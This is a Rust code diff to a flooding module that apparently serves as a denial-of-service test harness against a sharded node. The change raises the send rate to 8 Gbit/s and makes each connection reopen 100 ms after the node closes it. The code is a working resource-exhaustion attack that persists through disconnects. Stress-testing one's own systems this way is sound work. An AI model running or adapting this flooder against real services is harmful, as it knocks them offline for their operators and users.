@@ -1,8 +1,9 @@
-//! A tab that sends at line speed, and reads all that it is sent.
+//! A tab that sends at line speed, reads all that it is sent, and comes back when it is ended.
 
 use std::io::{self, Write as _};
 use std::net::TcpStream;
 use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::thread::{self, JoinHandle};
 use std::time::{Duration, Instant};
 
@@ -14,19 +15,22 @@ use crate::{Connection, Target};
 /// How many bytes are written at once.
 const PIECE: usize = 64 * 1024;
 
+/// How soon a tab comes back that was ended.
+const AGAIN: Duration = Duration::from_millis(100);
+
 /// What is sent.
 pub(crate) struct Flood {
     /// What is sent once.
     first: Vec<u8>,
     /// What is sent again and again.
     then: Vec<u8>,
-    /// The most bytes in a second: what the node does not slow down must not take the attacker's processor from the
-    /// clients that are measured on it.
+    /// The most bytes in a second.
     per_second: u64,
 }
 
-/// 200 Mbit/s; an eighth of it stopped a shard.
-const LINE_SPEED: u64 = 25_000_000;
+/// 8 Gbit/s, as fast as any node reads: the attacker's socket must never be empty, and what the node does not read costs
+/// the attacker no processor.
+const LINE_SPEED: u64 = 1_000_000_000;
 
 /// 20 Mbit/s; a tenth of it stopped a shard, by work that grows with what a message has already.
 const SLOW_LINE: u64 = 2_500_000;
@@ -67,30 +71,45 @@ pub(crate) fn small_fragments(message_bytes: usize) -> Flood {
     Flood { first: Vec::new(), then, per_second: SLOW_LINE }
 }
 
-/// Opens the tab and begins.
+/// Opens the tab and begins; a tab that the node has ended comes back.
 pub(crate) fn start(target: &Target, tally: &Arc<Tally>, flood: Flood) -> io::Result<Vec<JoinHandle<()>>> {
-    let mut connection = Connection::open(target)?;
-    Tally::add(&tally.opened, 1);
-    let mut socket = connection.socket()?;
-    let (writes, reads) = (Arc::clone(tally), Arc::clone(tally));
-    Ok(vec![
-        thread::spawn(move || {
-            // Whatever ends it, the other thread hears from the node why.
-            let _ = flood.send(&mut socket, &writes);
-        }),
-        thread::spawn(move || {
-            if let Some(ending) = connection.drain(|| reads.goes_on()) {
-                reads.ended(ending);
+    let mut next = Some(Connection::open(target)?);
+    let (target, tally) = (target.clone(), Arc::clone(tally));
+    Ok(vec![thread::spawn(move || {
+        while tally.goes_on() {
+            match next.take().map_or_else(|| Connection::open(&target), Ok) {
+                Ok(connection) => {
+                    Tally::add(&tally.opened, 1);
+                    flood.pour(connection, &tally);
+                }
+                Err(_) => Tally::add(&tally.refused, 1),
             }
-        }),
-    ])
+            thread::sleep(AGAIN);
+        }
+    })])
 }
 
 impl Flood {
-    fn send(&self, socket: &mut TcpStream, tally: &Tally) -> io::Result<()> {
+    /// Sends on one thread and reads on this one, until the node ends the connection or the attack is over.
+    fn pour(&self, mut connection: Connection, tally: &Tally) {
+        let ended = AtomicBool::new(false);
+        thread::scope(|scope| {
+            if let Ok(mut socket) = connection.socket() {
+                // Whatever ends it, the one that reads hears from the node why.
+                let goes_on = || tally.goes_on() && !ended.load(Ordering::Relaxed);
+                scope.spawn(move || self.send(&mut socket, tally, goes_on));
+            }
+            if let Some(ending) = connection.drain(|| tally.goes_on()) {
+                tally.ended(ending);
+            }
+            ended.store(true, Ordering::Relaxed);
+        });
+    }
+
+    fn send(&self, socket: &mut TcpStream, tally: &Tally, goes_on: impl Fn() -> bool) -> io::Result<()> {
         socket.write_all(&self.first)?;
         let (begun, mut sent, mut at) = (Instant::now(), 0u64, 0);
-        while tally.goes_on() {
+        while goes_on() {
             let end = (at + PIECE).min(self.then.len());
             match socket.write(&self.then[at..end]) {
                 Ok(0) => return Ok(()),
